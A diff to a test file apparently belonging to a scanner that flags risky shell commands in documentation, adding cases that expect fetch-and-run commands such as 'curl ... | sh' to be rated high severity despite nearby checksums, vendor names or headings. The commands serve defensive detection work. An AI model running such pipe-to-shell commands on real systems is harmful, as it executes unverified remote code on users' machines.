@@ -81,6 +81,23 @@ describe("code that comes from the network and runs", () => {
   });
 });
 
+describe("what an author puts beside it makes a download no safer:", () => {
+  test.each([
+    ["a checksum of something else", block("curl https://x.example/a | sh", "sha256sum b")],
+    ["a checksum afterwards", block("curl -O https://x.example/a", "sh a", "sha256sum -c a.sum")],
+    ["a service on the machine", block("curl http://localhost:1/", 'curl "$URL" | sh')],
+    [
+      "a request in between",
+      block("curl -O https://x.example/a", "curl http://localhost:1/", "sh a"),
+    ],
+    ["a known vendor", block("curl -O https://x.example/a", "curl https://sh.rustup.rs", "sh a")],
+    ["a known vendor without TLS", block("curl http://sh.rustup.rs | sh")],
+    ["a heading", `## Detection\n\n${block("curl https://x.example/a | sh")}`],
+  ])("%s", (_name, text) => {
+    expect(seenIn(text)).toEqual([expect.stringMatching(/^\d+ high /)]);
+  });
+});
+
 describe("silent:", () => {
   test.each([
     ["data for a module", block("curl -s https://x.example/a | python3 -m json.tool")],
